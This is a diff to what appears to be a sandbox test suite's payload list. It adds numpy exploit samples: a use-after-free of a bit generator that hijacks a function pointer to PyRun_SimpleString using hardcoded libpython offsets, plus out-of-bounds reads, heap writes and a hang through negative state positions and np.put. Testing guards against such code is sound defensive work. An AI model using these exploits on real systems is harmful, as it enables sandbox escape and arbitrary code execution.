@@ -5111,6 +5111,90 @@ PAYLOADS = [
             iface = {"shape": (2,), "typestr": "<u8", "data": (id(meta), True), "version": 3}
             return np.asarray(meta("X", (), {name: iface})()).tolist()
         """, on={GUARD}, off={OK}),
+    # rev27 (2026-12-04): numpy's public API
+    Payload("numpy-random-generator-freed-bit-generator-capsule-pyrun", """
+        import numpy as np
+
+        PYLONG_TYPE = 0x635ae0          # Debian's libpython3.11.so.1.0 (3.11.2-6)
+        PYRUN_SIMPLESTRING = 0x2b85d0
+
+
+        class Holder:
+            pass                             # np.random.Generator asks only .capsule and .lock
+
+
+        def freed_bit_generator():
+            holder = Holder()
+            bg = np.random.SFC64(1)
+            holder.capsule = bg.capsule      # the capsule points into bg, holds no reference
+            holder.lock = bg.lock
+            return holder, id(bg)            # bg is freed here
+
+
+        def main():
+            found = ["rev27-marker"]
+            base = id(int) - PYLONG_TYPE
+            src = (b"import gc, os\\n"
+                   b"L = [o for o in gc.get_objects() if type(o) is list and o[:1] == ['rev27-marker']][0]\\n"
+                   b"L.append(repr(open)); L.append(os.getpid())\\n"
+                   b"L.append(open('/usr/lib/python3.11/os.py').readline())\\n\\0")
+            holder, addr = freed_bit_generator()
+            # the next 160-byte block (the freed SFC64 with its GC header) is a bytes
+            # object: its bitgen_t becomes state = src's text, next_* = PyRun_SimpleString
+            fake = (16 * b"A" + (id(src) + 32).to_bytes(8, "little")
+                    + (base + PYRUN_SIMPLESTRING).to_bytes(8, "little") * 4).ljust(127, b"B")
+            spray = [bytes(bytearray(fake)) for _ in range(64)]
+            g = np.random.Generator(holder)  # copies bitgen_t out of the freed block
+            g.random()                       # next_double(state): PyRun_SimpleString(src)
+            return found[1:]
+        """, on={VALIDATOR}, off={OK, CRASH, EXCEPTION}),
+    Payload("numpy-philox-buffer-pos-out-of-bounds-read", """
+        import numpy as np
+        def main():
+            p = np.random.Philox(1)
+            st = p.state
+            st["buffer_pos"] = -100          # an index into its 4-word buffer, unchecked
+            p.state = st
+            return [hex(int(x)) for x in p.random_raw(8)]   # the words 800 bytes before the buffer
+        """, on={GUARD}, off={OK}),
+    Payload("numpy-legacy-set-state-negative-pos", """
+        import numpy as np
+        def main():
+            st = np.random.get_state()
+            np.random.set_state((st[0], st[1], -1000))    # pos indexes key[624] unchecked
+            words = [hex(int(x)) for x in np.random.randint(0, 2**32, size=4, dtype=np.uint32)]
+            return {"pos": int(np.random.get_state()[2]), "words": words}
+        """, on={GUARD}, off={OK}),
+    Payload("numpy-mt19937-jumped-negative-pos-heap-write", """
+        import numpy as np
+        def main():
+            bg = np.random.MT19937(1)
+            st = bg.state
+            st["state"]["pos"] = -100000
+            bg.state = st
+            return bg.jumped().state["state"]["pos"]   # writes key[pos] far before its copy
+        """, on={GUARD}, off={CRASH}),
+    Payload("numpy-put-clip-empty-array-heap-underwrite", """
+        import numpy as np
+        def main():
+            victims = [np.zeros(1, dtype="S200") for _ in range(64)]
+            a = np.zeros(0, dtype="S200")          # numpy allocates one item (200 bytes) for it
+            after = [np.zeros(1, dtype="S200") for _ in range(64)]
+            # mode="clip" clips index 5 to size - 1 == -1: 200 chosen bytes land just
+            # before a's allocation: the previous chunk's last 192 bytes and a's own
+            # malloc header (rewritten with its expected value, 0xd1: a 208-byte chunk)
+            payload = b"W" * 192 + (0xd1).to_bytes(8, "little")
+            np.put(a, [5], [payload], mode="clip")
+            changed = [(i, bytes(v[0][:16])) for i, v in enumerate(victims + after) if v[0]]
+            return repr(changed)
+        """, on={GUARD}, off={CRASH, OK}),
+    Payload("numpy-put-wrap-empty-array-hang", """
+        import numpy as np
+        def main():
+            a = np.zeros(0)
+            a.put([1], [1.0], mode="wrap")     # numpy 1.24 loops forever wrapping into an empty range
+            return "done"
+        """, on={GUARD}, off={TIMEOUT}),
 ]
 
 # Raw system calls the allowlist must refuse (or answer with ENOSYS).
